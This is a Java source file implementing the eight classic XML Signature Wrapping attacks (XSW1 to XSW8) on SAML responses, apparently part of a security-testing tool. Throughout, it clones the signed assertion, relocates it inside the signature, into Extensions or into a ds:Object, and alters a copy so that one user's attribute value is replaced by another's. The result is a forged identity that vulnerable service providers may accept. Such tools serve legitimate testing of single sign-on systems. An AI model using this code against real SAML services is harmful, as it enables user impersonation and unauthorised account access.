package fr.preau.saml;

import java.util.LinkedHashMap;
import java.util.Map;
import java.util.function.Consumer;
import org.w3c.dom.Element;

/**
 * The eight classic wrappings of a signature (Somorovsky et al., 2012, as the tools number them):
 * what was signed stays somewhere in the message, what is read is another.
 */
final class Wrappings {
    private Wrappings() {}

    static Map<String, Consumer<Forge>> all(String whose, String whom) {
        var all = new LinkedHashMap<String, Consumer<Forge>>();
        all.put("XSW1, the signed one inside its signature", f -> around(f, whose, whom, true));
        all.put("XSW2, the signed one before its signature", f -> around(f, whose, whom, false));
        all.put(
                "XSW3, an evil assertion before the signed one",
                f -> f.response.insertBefore(evil(f, whose, whom), f.assertion));
        all.put(
                "XSW4, an evil assertion around the signed one",
                f -> {
                    var evil = evil(f, whose, whom);
                    f.response.replaceChild(evil, f.assertion);
                    evil.appendChild(f.assertion);
                });
        all.put(
                "XSW5, the signed one after an altered one",
                f -> {
                    var copy = unsigned(f.assertion);
                    alter(f.assertion, whose, whom);
                    f.response.appendChild(copy);
                });
        all.put(
                "XSW6, the signed one in the signature of an altered one",
                f -> {
                    var copy = unsigned(f.assertion);
                    alter(f.assertion, whose, whom);
                    signature(f).appendChild(copy);
                });
        all.put(
                "XSW7, an evil assertion in Extensions",
                f -> {
                    var extensions = f.document.createElementNS(Xml.PROTOCOL, "samlp:Extensions");
                    extensions.appendChild(evil(f, whose, whom));
                    f.response.insertBefore(extensions, f.assertion);
                });
        all.put(
                "XSW8, the signed one in an Object of the signature",
                f -> {
                    var copy = unsigned(f.assertion);
                    alter(f.assertion, whose, whom);
                    var object = f.document.createElementNS(Xml.SIGNATURE, "ds:Object");
                    object.appendChild(copy);
                    signature(f).appendChild(object);
                });
        return all;
    }

    /** The evil one takes the place of what is signed, and keeps it inside. */
    private static void around(Forge f, String whose, String whom, boolean inSignature) {
        var signed = Forge.signatureOf(f.response) != null ? f.response : f.assertion;
        var copy = unsigned(signed);
        alter(signed, whose, whom);
        var signature = Forge.signatureOf(signed);
        if (inSignature) signature.appendChild(copy);
        else signed.insertBefore(copy, signature);
    }

    private static Element signature(Forge f) {
        var own = Forge.signatureOf(f.assertion);
        return own != null ? own : Forge.signatureOf(f.response);
    }

    private static Element unsigned(Element element) {
        var copy = (Element) element.cloneNode(true);
        var signature = Forge.signatureOf(copy);
        if (signature != null) copy.removeChild(signature);
        return copy;
    }

    private static Element evil(Forge f, String whose, String whom) {
        var evil = unsigned(f.assertion);
        alter(evil, whose, whom);
        return evil;
    }

    private static void alter(Element element, String whose, String whom) {
        element.setAttribute("ID", "_evil");
        for (var value : Xml.all(element))
            if (Xml.is(value, Xml.ASSERTION, "AttributeValue")
                    && value.getTextContent().equals(whose)) value.setTextContent(whom);
    }
}
